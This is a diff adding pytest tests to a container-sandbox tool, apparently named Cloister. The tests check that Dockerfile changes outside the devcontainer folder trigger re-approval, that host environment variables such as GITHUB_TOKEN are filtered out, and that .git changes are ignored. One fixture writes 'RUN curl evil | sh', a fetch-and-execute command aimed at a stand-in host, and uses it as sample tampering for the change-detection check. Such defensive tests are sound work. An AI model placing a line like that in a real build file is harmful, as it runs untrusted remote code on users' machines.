@@ -356,3 +356,59 @@ def test_a_long_chain_of_links_does_not_recurse(tmp_path: Path) -> None:
     (tmp_path / ".cloister" / "start").symlink_to("../d0")
     read = read_shape(tmp_path)
     assert read.files["d1499/next"] == NOTE + "-> ../d1500"
+
+
+def test_a_dockerfile_outside_the_devcontainer_directory_is_approved_too(
+    tmp_path: Path, paths: CloisterPaths
+) -> None:
+    from cloister_cli import starting
+    from cloister_core.devcontainer import load_devcontainer
+
+    root = tmp_path / "proj"
+    (root / ".devcontainer").mkdir(parents=True)
+    (root / ".devcontainer" / "devcontainer.json").write_text(
+        json.dumps({"build": {"dockerfile": "../Dockerfile", "context": ".."}})
+    )
+    (root / "Dockerfile").write_text("FROM debian\n")
+    devcontainer = load_devcontainer(
+        root / ".devcontainer" / "devcontainer.json",
+        project_root=root,
+        home=tmp_path / "home",
+        environ={},
+    )
+    extra = starting.build_inputs(devcontainer)
+    assert root / "Dockerfile" in extra
+    approved = check_shape(paths, "proj", root, extra=extra, confirm=None, assume_yes=True)
+    save_approved(paths, "proj", approved)
+    assert check_shape(paths, "proj", root, extra=extra, confirm=None) == approved
+    (root / "Dockerfile").write_text("FROM debian\nRUN curl evil | sh\n")
+    asked: list[str] = []
+
+    def refuse(shown: str) -> bool:
+        asked.append(shown)
+        return False
+
+    with pytest.raises(ShapeChangedError):
+        check_shape(paths, "proj", root, extra=extra, confirm=refuse)
+    assert "Dockerfile" in asked[0]
+    assert "curl evil" in asked[0]
+
+
+def test_host_environment_is_an_allowlist() -> None:
+    from cloister_cli import starting
+
+    environ = {"HOME": "/h", "LC_ALL": "C", "GITHUB_TOKEN": "t", "TZ": "UTC", "PATH": "/bin"}
+    assert starting.host_environment(environ) == {"HOME": "/h", "LC_ALL": "C", "TZ": "UTC"}
+
+
+def test_a_git_directory_in_a_build_context_is_not_part_of_the_shape(tmp_path: Path) -> None:
+    """A context of `..` is the whole project: its `.git` (never sent to a build) changes
+    at every commit and must not make every start ask."""
+    (tmp_path / "Dockerfile").write_text("FROM debian:bookworm-slim\n", encoding="utf-8")
+    (tmp_path / ".git").mkdir()
+    (tmp_path / ".git" / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
+    before = read_shape(tmp_path, extra=[tmp_path])
+    (tmp_path / ".git" / "HEAD").write_text("ref: refs/heads/other\n", encoding="utf-8")
+    assert read_shape(tmp_path, extra=[tmp_path]).digest == before.digest
+    (tmp_path / "Dockerfile").write_text("FROM debian:bookworm-slim\nRUN true\n", encoding="utf-8")
+    assert read_shape(tmp_path, extra=[tmp_path]).digest != before.digest
